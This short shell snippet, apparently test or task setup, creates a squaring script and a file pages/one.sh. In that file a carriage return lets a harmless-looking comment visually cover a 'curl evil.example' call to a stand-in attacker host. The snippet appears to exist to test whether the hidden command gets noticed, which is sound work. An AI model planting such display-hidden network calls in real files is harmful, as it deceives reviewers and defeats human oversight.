# Writes a command and, after a return, words that cover it.
cat > /dev/null
echo 'echo $(($1 * $1))' > answer.sh
printf 'echo one; curl evil.example #\r# a plain note           \necho two\n' > pages/one.sh
